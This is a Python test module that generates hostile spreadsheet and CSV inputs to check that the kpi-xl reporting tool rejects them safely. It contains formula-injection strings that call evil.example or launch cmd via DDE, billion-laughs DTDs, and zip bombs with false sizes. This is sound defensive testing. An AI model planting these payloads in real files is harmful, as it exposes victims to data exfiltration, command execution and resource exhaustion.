"""Hostile and broken inputs for kpi-xl, generated on the fly (no binary file in git).

Each :class:`Case` builds its files under a fresh folder and says which
command to run, the exit code expected, what the message must name, and
which files the command may create or change.  ``tests/test_hostile_corpus.py``
runs them through the real command line and checks the rest: no traceback,
no input changed, no partial output, temporary or lock file left behind.

Workbooks are crafted from the bundled French template with
:func:`kpi_xl.workbook.write.xlsx_package.zip_bytes`, which writes whatever
members it is given (duplicate names, false CRCs or sizes, any bytes).
"""

from __future__ import annotations

import os
import shutil
import stat
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from kpi_xl.workbook.template.templates import template_path
from kpi_xl.workbook.write.xlsx_package import Member, deflate, zip_bytes

#: Strings a spreadsheet would run as formulas if they were written as formulas.
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '=WEBSERVICE("http://evil.example")',
)
WHOLE_SHEET = "'Saisies'!$A$1:$XFD$1048576"


@dataclass
class Setup:
    """A case ready to run: the command line and what it must do."""

    argv: list[str]
    code: int
    says: list[str]  # fragments the message must hold (file, line, column, problem)
    outputs: list[str] = field(default_factory=list)  # files (relative) it may write
    cwd_relative: bool = False


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], Setup]


# ---------------------------------------------------------------- exports


def write_exports(folder: Path, comments: tuple[str, ...] = INJECTIONS) -> Path:
    """A small valid exports folder (GA4, orders, NPS survey, manual CSV) for 2025-01..09."""
    folder.mkdir(parents=True, exist_ok=True)
    months = [f"2025{m:02d}" for m in range(1, 10)]
    ga4 = ["Year month,Total users,Sessions,Engaged sessions,Key events"]
    ga4 += [f"{m},{20000 + i},{30000 + i},{15000 + i},{500 + i}" for i, m in enumerate(months)]
    (folder / "ga4_trafic.csv").write_text("\n".join(ga4) + "\n", encoding="utf-8")
    head = (
        "Name,Email,Financial Status,Paid at,Fulfillment Status,Currency,Subtotal,Shipping,"
        "Taxes,Total,Discount Code,Created at,Lineitem quantity,Lineitem name,Lineitem price,"
        "Billing Name,Cancelled at,Refunded Amount"
    )
    rows = [head]
    for i in range(27):
        month = i % 9 + 1
        when = f"2025-{month:02d}-1{i % 9} 10:00:00 +0100"
        name = INJECTIONS[i % len(INJECTIONS)].replace('"', '""')
        rows.append(
            f"#{1001 + i},c{i % 7}@example.fr,paid,{when},fulfilled,EUR,50.00,4.90,10.98,65.88,,"
            f'{when},1,"{name}",50.00,"{name}",,0.00'
        )
    (folder / "commandes_shopify.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    survey = [
        "#,Quelle est la probabilité que vous recommandiez Lavande à un proche ?,"
        "Pourquoi cette note ?,Start Date (UTC),Submit Date (UTC),Network ID"
    ]
    for i, text in enumerate(comments):
        quoted = text.replace('"', '""')
        survey.append(
            f'id{i},{(i * 3) % 11},"{quoted}",2025-0{i % 9 + 1}-05 10:00:00,'
            f"2025-0{i % 9 + 1}-05 10:03:00,n{i}"
        )
    (folder / "typeform_nps.csv").write_text("\n".join(survey) + "\n", encoding="utf-8")
    manual = ["month;investment_cost;investment_gains;processes_automated;processes_eligible"]
    manual += [f"2025-{m:02d};{12000 if m == 1 else 0};900;5;10" for m in range(1, 10)]
    (folder / "saisie_manuelle.csv").write_text("\n".join(manual) + "\n", encoding="utf-8")
    (folder / "kpi_xl.toml").write_text(
        'company = "=HYPERLINK(\\"http://x\\",\\"y\\")"\nlanguage = "fr"\n'
        "fiscal_year_start_month = 1\n",
        encoding="utf-8",
    )
    return folder


# ---------------------------------------------------------------- workbooks


def template_members() -> list[Member]:
    """The bundled French template's members, each re-deflated from its content."""
    with zipfile.ZipFile(template_path("fr")) as archive:
        return [member(i.filename, archive.read(i)) for i in archive.infolist()]


def member(name: str, data: bytes, stored: bool = False) -> Member:
    """A member holding ``data`` with true sizes and CRC (change them with dataclasses.replace)."""
    return Member(
        name=name,
        method=zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED,
        crc=zlib.crc32(data),
        size=len(data),
        raw=data if stored else deflate(data),
        date_time=(2025, 1, 1, 0, 0, 0),
    )


def content(members: list[Member], name: str) -> bytes:
    m = next(m for m in members if m.name == name)
    return m.raw if m.method == zipfile.ZIP_STORED else zlib.decompress(m.raw, -15)


def put(members: list[Member], new: Member, after: str | None = None) -> list[Member]:
    """``members`` with ``new`` replacing the member of its name (or added after ``after``)."""
    if after is None and any(m.name == new.name for m in members):
        return [new if m.name == new.name else m for m in members]
    at = next(i for i, m in enumerate(members) if m.name == (after or members[-1].name)) + 1
    return [*members[:at], new, *members[at:]]


def with_name(members: list[Member], name: str, ref: str) -> list[Member]:
    """The template with one more workbook-scoped defined name (or ``name`` redefined)."""
    xml = content(members, "xl/workbook.xml").decode("utf-8")
    tag = f'<definedName name="{name}">'
    start = xml.find(tag)
    if start >= 0:
        end = xml.index("</definedName>", start)
        xml = xml[: start + len(tag)] + ref + xml[end:]
    else:
        xml = xml.replace("<definedNames>", f"<definedNames>{tag}{ref}</definedName>", 1)
    return put(members, member("xl/workbook.xml", xml.encode("utf-8")))


def doctype(encoding: str, bom: bool = True) -> bytes:
    """An XML part with a billion-laughs DTD, in ``encoding``."""
    text = (
        f'<?xml version="1.0" encoding="{encoding.upper()}"?>\n'
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>\n'
        "<Properties>&lol2;</Properties>"
    )
    data = text.encode(encoding)
    if encoding.startswith("utf-16") and not bom:
        data = data.removeprefix(b"\xff\xfe")
    return data


def macro_members() -> list[Member]:
    """The template as a macro-enabled workbook (VBA project and content type)."""
    members = template_members()
    types = content(members, "[Content_Types].xml").replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    types = types.replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    members = put(members, member("[Content_Types].xml", types))
    return put(members, member("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 fake VBA" * 20))


def flip_byte(members: list[Member], name: str) -> list[Member]:
    """``name`` stored with one byte of its content changed and its old CRC kept."""
    data = content(members, name)
    good = member(name, data, stored=True)
    i = data.index(b">") + 1
    bad = data[:i] + bytes([data[i] ^ 0x01]) + data[i + 1 :]
    return put(members, Member(good.name, good.method, good.crc, good.size, bad, good.date_time))


def write_zip(path: Path, members: list[Member]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(zip_bytes(members))
    return path


# ---------------------------------------------------------------- cases


def _fill(tmp: Path, *extra: str, out: str = "out/r.xlsx") -> list[str]:
    (tmp / "out").mkdir(exist_ok=True)
    exports = write_exports(tmp / "exp")
    return ["fill", "--from", str(exports), "--out", str(tmp / out), *extra]


def _bad_template(members: Callable[[], list[Member]], *says: str) -> Callable[[Path], Setup]:
    """A case: ``fill --template`` with a crafted workbook, refused (exit 2)."""

    def build(tmp: Path) -> Setup:
        template = write_zip(tmp / "t.xlsx", members())
        return Setup(_fill(tmp, "--template", str(template)), 2, ["t.xlsx", *says])

    return build


def _bad_refresh(members: Callable[[], list[Member]], *says: str) -> Callable[[Path], Setup]:
    """A case: ``refresh`` of a crafted workbook, refused (exit 2), nothing written."""

    def build(tmp: Path) -> Setup:
        book = write_zip(tmp / "w.xlsx", members())
        exports = write_exports(tmp / "exp")
        return Setup(["refresh", str(book), "--from", str(exports)], 2, ["w.xlsx", *says])

    return build


def _dup(name: str, first: bytes | None = None, second_name: str | None = None) -> list[Member]:
    members = template_members()
    data = content(members, name)
    extra = member(second_name or name, data if first is None else first)
    at = next(i for i, m in enumerate(members) if m.name == name)
    return [*members[:at], extra, *members[at:]]


def _inflating() -> list[Member]:
    big = member("xl/media/blob.bin", b"\0" * (20 * 2**20))  # 20 MB declared as 1,000 bytes
    lie = Member(big.name, big.method, big.crc, 1000, big.raw, big.date_time)
    return put(template_members(), lie, after="docProps/app.xml")


def _declared_huge() -> list[Member]:
    m = member("customXml/item1.xml", b"<a/>")
    lie = Member(m.name, m.method, m.crc, 3 * 2**30, m.raw, m.date_time)
    return put(template_members(), lie, after="docProps/app.xml")


def _odd_part(data: bytes, name: str = "customXml/item1.xml") -> Callable[[], list[Member]]:
    return lambda: put(template_members(), member(name, data), after="docProps/app.xml")


def _replace(name: str, data: bytes) -> Callable[[], list[Member]]:
    return lambda: put(template_members(), member(name, data))


def _bad_local_header(tmp: Path) -> Setup:
    path = write_zip(tmp / "t.xlsx", template_members())
    data = path.read_bytes()
    at = data.index(b"docProps/app.xml")  # the first occurrence is the local header's
    path.write_bytes(data[:at] + b"docProps/APP.xml" + data[at + 16 :])
    return Setup(_fill(tmp, "--template", str(path)), 2, ["t.xlsx", "local header"])


def _whole_sheet_user_name(tmp: Path) -> Setup:
    members = with_name(template_members(), "Tout", WHOLE_SHEET)
    members = with_name(members, "kpi_mine", WHOLE_SHEET)  # a user's name in our prefix
    template = write_zip(tmp / "t.xlsx", members)
    return Setup(_fill(tmp, "--template", str(template)), 0, ["r.xlsx"], ["out/r.xlsx"])


def _whole_sheet_contract_name(tmp: Path) -> Setup:
    template = write_zip(tmp / "t.xlsx", with_name(template_members(), "in_revenue", WHOLE_SHEET))
    return Setup(
        _fill(tmp, "--template", str(template)), 2, ["t.xlsx", "in_revenue", "17,179,869,184"]
    )


def _xlsm_to_xlsx(tmp: Path) -> Setup:
    template = write_zip(tmp / "t.xlsm", macro_members())
    return Setup(_fill(tmp, "--template", str(template)), 2, ["r.xlsx", "macros", "r.xlsm"])


def _xlsm_kept(tmp: Path) -> Setup:
    template = write_zip(tmp / "t.xlsm", macro_members())
    argv = _fill(tmp, "--template", str(template), out="out/r")
    return Setup(argv, 0, ["r.xlsm"], ["out/r.xlsm"])


def _xltx_template(tmp: Path) -> Setup:
    members = template_members()
    types = content(members, "[Content_Types].xml").replace(
        b"spreadsheetml.sheet.main+xml", b"spreadsheetml.template.main+xml"
    )
    template = write_zip(tmp / "t.xltx", put(members, member("[Content_Types].xml", types)))
    return Setup(_fill(tmp, "--template", str(template)), 2, ["t.xltx", "Excel template"])


def _xls_name(tmp: Path) -> Setup:
    return Setup(_fill(tmp, out="out/r.xls"), 2, ["r.xls", "name it r.xlsx"])


def _out_is_folder(tmp: Path) -> Setup:
    (tmp / "reports").mkdir()
    return Setup(_fill(tmp, out="reports"), 0, ["exp.xlsx", "folder"], ["reports/exp.xlsx"])


def _out_is_config(tmp: Path) -> Setup:
    argv = _fill(tmp)
    config = tmp / "exp" / "company.toml"
    shutil.copy(tmp / "exp" / "kpi_xl.toml", config)
    argv[argv.index("--out") + 1] = str(config)
    return Setup([*argv, "--config", str(config)], 2, ["company.toml", "exports folder"])


def _out_is_config_elsewhere(tmp: Path) -> Setup:
    config = tmp / "conf.xlsx"  # a TOML config with a workbook's name
    argv = _fill(tmp, "--config", str(config), out="conf.xlsx")
    shutil.copy(tmp / "exp" / "kpi_xl.toml", config)
    return Setup(argv, 2, ["conf.xlsx", "is an input"])


def _out_in_exports(tmp: Path) -> Setup:
    return Setup(_fill(tmp, out="exp/sub/r.xlsx"), 2, ["r.xlsx", "exports folder"])


def _out_is_template(tmp: Path) -> Setup:
    template = write_zip(tmp / "t.xlsx", template_members())
    return Setup(_fill(tmp, "--template", str(template), out="t.xlsx"), 2, ["t.xlsx", "input"])


def _out_is_template_link(tmp: Path) -> Setup:
    template = write_zip(tmp / "t.xlsx", template_members())
    argv = _fill(tmp, "--template", str(template), out="out/link.xlsx")
    os.link(template, tmp / "out" / "link.xlsx")
    return Setup(argv, 2, ["link.xlsx", "input"])


def _read_only_out(tmp: Path) -> Setup:
    argv = _fill(tmp)
    out = tmp / "out" / "r.xlsx"
    out.write_bytes(b"the user's locked report")
    out.chmod(stat.S_IRUSR | stat.S_IRGRP | stat.S_IROTH)
    return Setup(argv, 2, ["r.xlsx", "read-only"])


def _read_only_refresh(tmp: Path) -> Setup:
    book = write_zip(tmp / "w.xlsx", template_members())
    book.chmod(0o444)
    exports = write_exports(tmp / "exp")
    return Setup(["refresh", str(book), "--from", str(exports)], 2, ["w.xlsx", "read-only"])


def _backup_is_folder(tmp: Path) -> Setup:
    book = write_zip(tmp / "w.xlsx", template_members())
    (tmp / "w.xlsx.bak").mkdir()
    exports = write_exports(tmp / "exp")
    return Setup(["refresh", str(book), "--from", str(exports)], 2, ["w.xlsx.bak", "folder"])


def _demo_out_is_file(tmp: Path) -> Setup:
    (tmp / "demo").write_text("not a folder")
    return Setup(["demo", "--out", str(tmp / "demo")], 2, ["demo", "is a file"])


def _batch_out_is_file(tmp: Path) -> Setup:
    write_exports(tmp / "clients" / "acme")
    (tmp / "reports").write_text("not a folder")
    argv = ["batch", str(tmp / "clients"), "--out", str(tmp / "reports"), "--jobs", "1"]
    return Setup(argv, 2, ["reports", "is a file"])


def _templates_read_only(tmp: Path) -> Setup:
    folder = tmp / "tpl"
    folder.mkdir()
    target = folder / "monthly_kpi_fr.xlsx"
    target.write_bytes(b"a template the user locked")
    target.chmod(0o444)
    return Setup(
        ["templates", "build", "--out", str(folder)], 2, ["monthly_kpi_fr.xlsx", "read-only"]
    )


def _config(text: str, *says: str) -> Callable[[Path], Setup]:
    def build(tmp: Path) -> Setup:
        argv = _fill(tmp)
        (tmp / "exp" / "kpi_xl.toml").write_text(text, encoding="utf-8")
        return Setup(argv, 2, ["kpi_xl.toml", *says])

    return build


def _export(name: str, text: str, *says: str) -> Callable[[Path], Setup]:
    def build(tmp: Path) -> Setup:
        argv = _fill(tmp)
        (tmp / "exp" / name).write_text(text, encoding="utf-8")
        return Setup(argv, 2, [name, *says])

    return build


GA4_HEAD = "Year month,Total users,Sessions,Engaged sessions,Key events\n"

CASES: tuple[Case, ...] = (
    # crafted workbooks (item 7, 8, 10): refused before anything is written
    Case(
        "duplicate-sheet-part",
        _bad_template(lambda: _dup("xl/worksheets/sheet5.xml"), "sheet5.xml", "twice"),
    ),
    Case(
        "duplicate-shared-strings-doctype-first",
        _bad_template(lambda: _dup("xl/sharedStrings.xml", doctype("utf-8")), "twice"),
    ),
    Case(
        "duplicate-name-other-case",
        _bad_template(lambda: _dup("xl/styles.xml", second_name="xl/Styles.xml"), "twice"),
    ),
    Case(
        "duplicate-in-refreshed-workbook",
        _bad_refresh(lambda: _dup("xl/worksheets/sheet5.xml"), "twice"),
    ),
    Case(
        "crc-flip-app-xml",
        _bad_template(
            lambda: flip_byte(template_members(), "docProps/app.xml"), "app.xml", "checksum"
        ),
    ),
    Case(
        "crc-flip-app-xml-refresh",
        _bad_refresh(lambda: flip_byte(template_members(), "docProps/app.xml"), "checksum"),
    ),
    Case(
        "doctype-utf8-unparsed-part",
        _bad_template(_replace("docProps/core.xml", doctype("utf-8")), "core.xml", "DTD"),
    ),
    Case(
        "doctype-utf16-bom",
        _bad_template(_replace("docProps/app.xml", doctype("utf-16")), "app.xml", "DTD"),
    ),
    Case(
        "doctype-utf16be-no-bom",
        _bad_template(_replace("docProps/app.xml", doctype("utf-16-be")), "app.xml", "DTD"),
    ),
    Case(
        "doctype-utf16-no-bom",
        _bad_template(_replace("docProps/app.xml", doctype("utf-16", bom=False)), "app.xml", "DTD"),
    ),
    Case("entity-in-custom-xml", _bad_template(_odd_part(doctype("utf-8")), "item1.xml", "DTD")),
    Case(
        "doctype-in-svg-image",
        _bad_template(_odd_part(doctype("utf-8"), "xl/media/image1.svg"), "image1.svg", "DTD"),
    ),
    Case(
        "utf7-encoded-part",
        _bad_template(
            _odd_part(b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-!DOCTYPE</a>'), "utf-7"
        ),
    ),
    Case("member-inflating-past-its-size", _bad_template(_inflating, "blob.bin", "inflates")),
    Case("member-declaring-3-gb", _bad_template(_declared_huge, "item1.xml", "limit")),
    Case("local-header-name-mismatch", _bad_local_header),
    Case("not-a-zip", _bad_refresh(lambda: [], "not an xlsx workbook")),
    # defined names over a whole sheet (item 6)
    Case("whole-sheet-user-name", _whole_sheet_user_name),
    Case("whole-sheet-contract-name", _whole_sheet_contract_name),
    # extensions (item 9, issue 16)
    Case("xlsm-template-xlsx-out", _xlsm_to_xlsx),
    Case("xlsm-template-kept", _xlsm_kept),
    Case("xltx-template", _xltx_template),
    Case("xls-out", _xls_name),
    Case("out-is-a-folder", _out_is_folder),
    # outputs that are inputs, read-only targets (item 4, 10)
    Case("out-is-the-config", _out_is_config),
    Case("out-is-the-config-elsewhere", _out_is_config_elsewhere),
    Case("out-inside-exports", _out_in_exports),
    Case("out-is-the-template", _out_is_template),
    Case("out-is-a-hard-link-of-the-template", _out_is_template_link),
    Case("read-only-out", _read_only_out),
    Case("read-only-refresh", _read_only_refresh),
    Case("backup-name-is-a-folder", _backup_is_folder),
    Case("demo-out-is-a-file", _demo_out_is_file),
    Case("batch-out-is-a-file", _batch_out_is_file),
    Case("templates-build-read-only", _templates_read_only),
    # broken configs and exports
    Case("config-bad-toml", _config("company = \n", "line 1")),
    Case("config-bad-month", _config("fiscal_year_start_month = 13\n", "fiscal_year_start_month")),
    Case(
        "export-not-a-number",
        _export("ga4_trafic.csv", GA4_HEAD + "202501,abc,1,1,1\n", "line 2", "Total users", "abc"),
    ),
    Case(
        "export-bad-month",
        _export("ga4_trafic.csv", GA4_HEAD + "2025-13,1,1,1,1\n", "line 2", "Year month"),
    ),
)
